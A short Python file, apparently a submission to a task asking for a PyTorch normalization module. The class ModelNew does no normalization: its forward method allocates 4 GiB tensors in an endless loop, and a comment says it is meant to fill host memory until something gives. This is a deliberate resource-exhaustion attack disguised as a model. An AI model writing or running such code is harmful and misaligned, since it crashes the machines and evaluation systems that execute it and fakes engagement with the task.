# Fills host memory 4 GiB at a time until something gives.
import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, normalized_shape):
        super().__init__()

    def forward(self, x):
        hoard = []
        while True:
            hoard.append(torch.ones(4 << 30, dtype=torch.uint8))
